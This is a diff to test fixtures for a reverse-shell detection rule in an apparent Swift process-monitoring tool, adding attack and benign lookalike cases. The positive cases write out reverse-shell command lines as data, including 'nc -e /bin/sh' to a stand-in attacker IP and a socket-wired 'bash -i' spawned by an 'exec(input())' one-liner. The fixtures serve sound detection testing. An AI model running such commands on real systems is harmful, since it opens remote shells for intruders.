@@ -4,18 +4,26 @@ extension Fixtures {
     static let execution: [RuleFixture] = [
         RuleFixture("reverse-shell-socket-stdio",
             positives: [
-                Case("bash -i wired to a TCP socket by a python one-liner",
-                     Actor(Proc("/usr/bin/bash", ["bash", "-i"]),
-                           in: Trees.userLogin.spawning(Proc("/usr/bin/python3.12", ["python3", "/home/alice/x.py"], uid: 1000)))
+                Case("exploited service: bash -i wired to a TCP socket by a python one-liner",
+                     Actor(Proc("/usr/bin/bash", ["bash", "-i"], uid: 998),
+                           in: Trees.unit("app.service", Proc("/opt/app/bin/server", ["/opt/app/bin/server", "--listen", ":8080"], uid: 998))
+                                .spawning(Proc("/usr/bin/python3.12", ["python3", "-c", "exec(input())"], uid: 998)))
                         .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
-                Case("sh with only stdin on a socket (nc -e style)",
-                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.rootLogin.spawning(Proc.line("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444")))
+                Case("cron-planted job: sh with only stdin on a socket (nc -e style)",
+                     Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.cronJob("/var/tmp/u").spawning(Proc.line("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444")))
                         .exec(stdin: .socket, stdout: .fifo)),
             ],
             negatives: [
                 Case("sshd runs a non-interactive command over its socket pair",
                      Actor(Proc("/usr/bin/bash", ["bash", "-c", "uptime"], uid: 1000), in: Tree([Trees.sshdSession, Trees.sshd, Trees.systemd]))
                         .exec(stdin: .socket, stdout: .socket)),
+                Case("a script started by a non-interactive SSH command inherits the socket pair",
+                     Actor(Proc("/usr/bin/bash", ["bash", "deploy/migrate.sh"], uid: 1000),
+                           in: Tree([Proc.shell("cd /srv/app && ./deploy.sh", exe: "/usr/bin/bash", uid: 1000), Trees.sshdSession, Trees.sshd, Trees.systemd]))
+                        .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
+                Case("Node.js child_process.exec (libuv socket pairs)",
+                     Actor(Proc.shell("git rev-parse HEAD", uid: 999), in: Trees.unit("app.service", Proc("/usr/bin/node", ["node", "/srv/app/server.js"], uid: 999)))
+                        .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
                 Case("interactive login shell on a terminal",
                      Actor(Proc("/usr/bin/bash", ["bash"], uid: 1000), in: Trees.userLogin).exec()),
             ]),
@@ -67,6 +75,8 @@ extension Fixtures {
             ],
             negatives: [
                 Case("python resolves its host name", Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import socket; print(socket.gethostname())"]), in: Trees.rootLogin).exec()),
+                Case("python one-liner probes a port, then restarts a service",
+                     Actor(Proc("/usr/bin/python3.12", ["python3", "-c", "import socket,subprocess; socket.create_connection((\"db\",5432),2); subprocess.run([\"systemctl\",\"restart\",\"app\"])"]), in: Trees.rootLogin).exec()),
                 Case("python script (not inline) using sockets and subprocess",
                      Actor(Proc("/usr/bin/python3.12", ["python3", "/opt/app/socket_subprocess_worker.py"]), in: Trees.rootLogin).exec()),
             ]),
